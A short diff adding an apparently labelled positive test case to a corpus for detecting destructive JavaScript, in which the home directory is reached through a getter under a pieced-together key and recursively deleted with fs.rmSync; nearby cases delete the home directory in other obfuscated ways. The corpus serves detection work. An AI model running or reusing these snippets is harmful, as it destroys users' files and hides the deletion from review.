@@ -616,3 +616,8 @@ Promise.allSettled([Promise.resolve('dist')]).then((rs) => fs.rmSync(rs[0].value
 const fs = require('fs');
 const { setInterval } = require('timers/promises');
 (async () => { for await (const d of setInterval(10, require('os').homedir())) { fs.rmSync(d, { recursive: true }); break; } })();
+//@ pos the home defined under a key built from pieces
+const fs = require('fs');
+const o = {};
+Object.defineProperty(o, 'ro' + 'ot', { get: () => require('os').homedir() });
+fs.rmSync(o.root, { recursive: true });
